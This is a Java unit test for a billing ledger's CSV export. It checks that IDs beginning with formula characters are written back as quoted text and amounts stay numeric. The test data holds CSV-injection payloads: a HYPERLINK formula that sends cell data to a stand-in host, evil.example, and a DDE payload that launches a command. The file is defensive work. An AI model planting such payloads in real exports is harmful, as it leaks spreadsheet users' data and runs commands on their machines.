package aikpi.billing.focus;

import static aikpi.billing.BillingApi.line;
import static aikpi.billing.BillingApi.with;
import static org.assertj.core.api.Assertions.assertThat;

import aikpi.billing.BillingApi;
import io.micronaut.http.HttpRequest;
import io.micronaut.http.client.HttpClient;
import io.micronaut.http.client.annotation.Client;
import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import jakarta.inject.Inject;
import java.io.StringReader;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/**
 * Ids a client chose that a spreadsheet would run as formulas come back in the ledger export as text (OWASP "CSV
 * Injection"): a single quote in front, the cell quoted; amounts, negative ones too, are written as they are.
 */
@MicronautTest
class ExportFormulaCellsTest {

    private static final String LINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
    private static final Pattern NUMBER = Pattern.compile("[+-]?(\\d+(\\.\\d*)?|\\.\\d+)([eE][+-]?\\d+)?");

    @Inject
    @Client("/")
    HttpClient client;

    @Test
    void formulaIdsAreWrittenAsQuotedTextAndAmountsAsNumbers() throws Exception {
        BillingApi api = new BillingApi(client.toBlocking());
        api.voucher(URLEncoder.encode("=1+2", StandardCharsets.UTF_8), "minimax", "500.00", "2023-01-01", "2023-12-31");
        assertThat(api.lines(List.of(
                line(LINK, "acme", "EXTERNAL", "IAAS", "1200.50", "2023-05-03"),
                line("@SUM(1+1)*cmd|' /C calc'!A0", "acme", "EXTERNAL", "IAAS", "10.00", "2023-05-04"),
                with(line("-2+3", "acme", "EXTERNAL", "IAAS", "-200.25", "2023-05-05"), "correctionOf", LINK),
                with(line("\tx", "minimax", "INVESTEE", "AI_COMPUTE", "88.00", "2023-05-06"),
                        "funding", "VOUCHER", "voucherId", "=1+2"))))
                .containsEntry("accepted", 4);

        String text = client.toBlocking().retrieve(HttpRequest.GET("/api/v1/ledger/export?period=2023-05"), String.class);
        assertThat(text).contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\"", "\"'=1+2\"",
                "\"'@SUM(1+1)*cmd|' /C calc'!A0\"", "\"'-2+3\"", "\"'\tx\"");
        List<CSVRecord> rows;
        try (CSVParser parser = CSVParser.builder().setReader(new StringReader(text))
                .setFormat(CSVFormat.DEFAULT.builder().setHeader().get()).get()) {
            rows = parser.getRecords();
        }
        assertThat(rows).hasSize(5); // the voucher-funded line is a Usage and a Credit row
        for (CSVRecord row : rows) {
            for (String cell : row) {
                assertThat(cell.isEmpty() || NUMBER.matcher(cell).matches() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0)
                        .as("cell %s of line %s", cell, row.getRecordNumber()).isTrue();
            }
        }
        assertThat(rows).extracting(r -> r.get("x_LedgerLineId"))
                .containsExactly("'" + LINK, "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3", "'\tx", "'\tx");
        assertThat(rows).extracting(r -> r.get("BilledCost")).containsExactly("1200.50", "10.00", "-200.25", "88.00", "-88.00");
        assertThat(rows.get(4).get("x_VoucherId")).isEqualTo("'=1+2");
        assertThat(rows.get(4).get("ChargeCategory")).isEqualTo("Credit");
    }
}
